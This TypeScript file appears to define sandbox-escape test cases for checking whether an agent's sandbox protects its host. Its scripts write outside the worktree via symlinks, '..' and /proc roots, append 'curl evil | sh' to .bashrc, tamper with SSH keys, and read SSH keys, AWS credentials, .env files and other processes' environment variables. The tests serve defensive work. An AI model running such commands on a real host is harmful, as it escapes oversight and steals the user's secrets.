import { onHost } from "../arena/on-host.ts";
import type { Attack } from "../attack.ts";

const node = (program: string): string => `node -e '${program}'`;

/** T11 and T12: the files, variables, processes and sockets of the machine that the sandbox stands on. */
export const hostFileAttacks: readonly Attack[] = [
  onHost({
    id: "T11-absolute",
    row: "T11",
    title: "writes a file by its absolute path",
    script: `echo evil >"$OPEN/evil"`,
  }),
  onHost({
    id: "T11-relative",
    row: "T11",
    title: "climbs out of its worktree by `..`",
    script: `echo evil >../open/evil; cd ../..; echo evil >"\${HOST##*/}/open/evil-too"`,
  }),
  onHost({
    id: "T11-profile",
    row: "T11",
    title: "adds a line to the profile of the user's shell",
    script: `echo 'curl evil | sh' >>"$HOST_HOME/.bashrc"`,
  }),
  onHost({
    id: "T11-key",
    row: "T11",
    title: "lets itself in by the user's SSH keys",
    script: `echo 'ssh-ed25519 AAAA evil' >>"$HOST_HOME/.ssh/id_ed25519"`,
  }),
  onHost({
    id: "T11-link",
    row: "T11",
    title: "writes through a link that leads out",
    script: `ln -s "$OPEN" out; echo evil >out/evil`,
  }),
  onHost({
    id: "T11-process-root",
    row: "T11",
    title: "writes by way of another process's root folder",
    script: `for root in /proc/[0-9]*/root; do echo evil >"$root$OPEN/evil"; done`,
  }),
  onHost({
    id: "T11-process-cwd",
    row: "T11",
    title: "writes by way of another process's working folder",
    script: `for p in /proc/[0-9]*; do echo evil >"$p/root$OPEN/evil"; (cd "$p/cwd" && echo evil >"$OPEN/evil-too"); done`,
  }),
  onHost({
    id: "T11-mount",
    row: "T11",
    title: "mounts the host's folder in a namespace of its own",
    // In a namespace of its own alone: as root it would be the machine's.
    script: `mkdir -p m; unshare -rm sh -c 'mount --bind "$OPEN" m && echo evil >m/evil'`,
  }),
  onHost({
    id: "T11-kill",
    row: "T11",
    title: "ends a process of the user",
    script: `kill -9 "$BYSTANDER"; sleep 0.1`,
  }),
  onHost({ id: "T12-ssh", row: "T12", title: "reads the user's SSH key", script: `cat "$HOST_HOME/.ssh/id_ed25519"` }),
  onHost({
    id: "T12-cloud",
    row: "T12",
    title: "copies the cloud's credentials into its worktree",
    script: `cp "$HOST_HOME/.aws/credentials" notes.txt`,
  }),
  onHost({
    id: "T12-dotenv",
    row: "T12",
    title: "reads the `.env` of another project",
    script: `cat "$HOST_HOME"/*/.env; cat "$HOST_HOME/project/.env"`,
  }),
  onHost({
    id: "T12-hard-link",
    row: "T12",
    title: "links the key's own file into its worktree",
    script: `ln "$HOST_HOME/.ssh/id_ed25519" key`,
  }),
  onHost({
    id: "T12-link",
    row: "T12",
    title: "reads through a link that leads out",
    script: `ln -s "$HOST_HOME" home; cat home/.ssh/id_ed25519`,
  }),
  onHost({
    id: "T12-search",
    row: "T12",
    title: "searches the machine's folders for keys",
    script: `find /tmp /home /root -maxdepth 4 -name id_ed25519 -path "*$(basename "$HOST")*" -exec cat {} +`,
  }),
  onHost({
    id: "T12-environment",
    row: "T12",
    title: "reads the variables of other processes",
    script: `cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep CANARY`,
  }),
  onHost({
    id: "T12-process-root",
    row: "T12",
    title: "reads by way of another process's root folder",
    script: `for root in /proc/[0-9]*/root; do cat "$root$HOST_HOME/.ssh/id_ed25519"; done`,
  }),
  onHost({
    id: "T12-agent-socket",
    row: "T12",
    title: "speaks to the user's agent for keys on its unix socket",
    script: node(
      `require("net").connect(process.env.SOCKET).on("error",()=>{}).on("data",(d)=>console.log(String(d))).end("sign\\n")`,
    ),
  }),
  onHost({
    id: "T12-abstract-socket",
    row: "T12",
    title: "speaks to a service of the desktop on an abstract socket",
    script: node(
      `require("net").connect("\\0"+process.env.ABSTRACT).on("error",()=>{}).on("data",(d)=>console.log(String(d))).end("x\\n")`,
    ),
  }),
];
